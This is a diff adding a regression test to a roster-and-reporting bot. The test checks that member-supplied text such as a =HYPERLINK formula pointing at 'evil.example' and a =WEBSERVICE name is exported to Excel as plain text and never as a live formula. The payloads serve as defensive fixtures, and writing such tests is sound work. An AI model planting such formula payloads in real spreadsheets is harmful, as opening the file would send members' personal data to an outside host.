@@ -8,7 +8,9 @@ from datetime import timedelta
 
 from openpyxl import load_workbook
 
+from bot import demo_data
 from bot.clock import FrozenClock
+from bot.services.report import build_report, report_workbook
 from tests.conftest import Branch
 
 REQUEST = ("/collect 兼职情况统计\n截止 11月30日\n对象 第三党小组（东湖花园）\n"
@@ -106,3 +108,37 @@ async def test_reminder_the_day_before_the_deadline(branch: Branch) -> None:
     assert not any("明天截止" in m["text"] for m in branch.fake.bot_messages(done))
     names = branch.reply(leader)
     assert "许茂林" in names and "孔繁荣" in names and "尤凤英" not in names
+
+
+async def test_text_from_members_is_never_a_formula_in_the_workbooks(branch: Branch) -> None:
+    """The audit's case: an answer `=HYPERLINK("http://…"&B2&C2,…)` and a roster name
+    `=WEBSERVICE(…)` were written as live formulas; opening the file would send the
+    neighbouring cells (names, groups) to that address."""
+    deps = branch.h.deps
+    evil_name = '=WEBSERVICE(B3)'  # the roster keeps names short
+    evil_answer = '=HYPERLINK("http://evil.example/?"&B2&C2,"点我")'
+    rows = demo_data.roster_rows()
+    rows[2]["姓名"] = evil_name  # 李秀英's row
+    assert (await deps.roster.import_rows(rows, actor_tg=None)).ok
+    li = await deps.people.by_ext_id("A003")
+    wang = await deps.people.by_ext_id("A001")
+    assert li is not None and wang is not None and li.name == evil_name
+    at = "2026-11-22T02:00:00+00:00"
+    cid = await deps.collection_repo.create("情况", [("备注", "text", ())], "everyone", None,
+                                            "2026-12-01", created_by_tg=1, at=at)
+    await deps.collection_repo.save(cid, li.id, [evil_answer], recorded_by=li.id, at=at)
+    collection = await deps.collection_repo.get(cid)
+    assert collection is not None
+    await deps.visit_repo.log_visits(
+        [wang.id], kind="日常走访", visited_on="2026-11-20", recorded_by=li.id,
+        companions=None, notes=None, gifts=None, money_yuan=None, task_id=None, at=at)
+    report = await build_report(deps, 2026)
+    books = {"collection": await deps.collections.workbook(collection),
+             "report": report_workbook(report, [("走访人", evil_name)])}
+    for label, data in books.items():
+        wb = load_workbook(io.BytesIO(data))
+        cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row
+                 if isinstance(c.value, str)]
+        assert any(c.value.startswith("=") for c in cells), label  # the text is there
+        formulas = [c.value for c in cells if c.data_type == "f"]
+        assert formulas == [], (label, formulas)
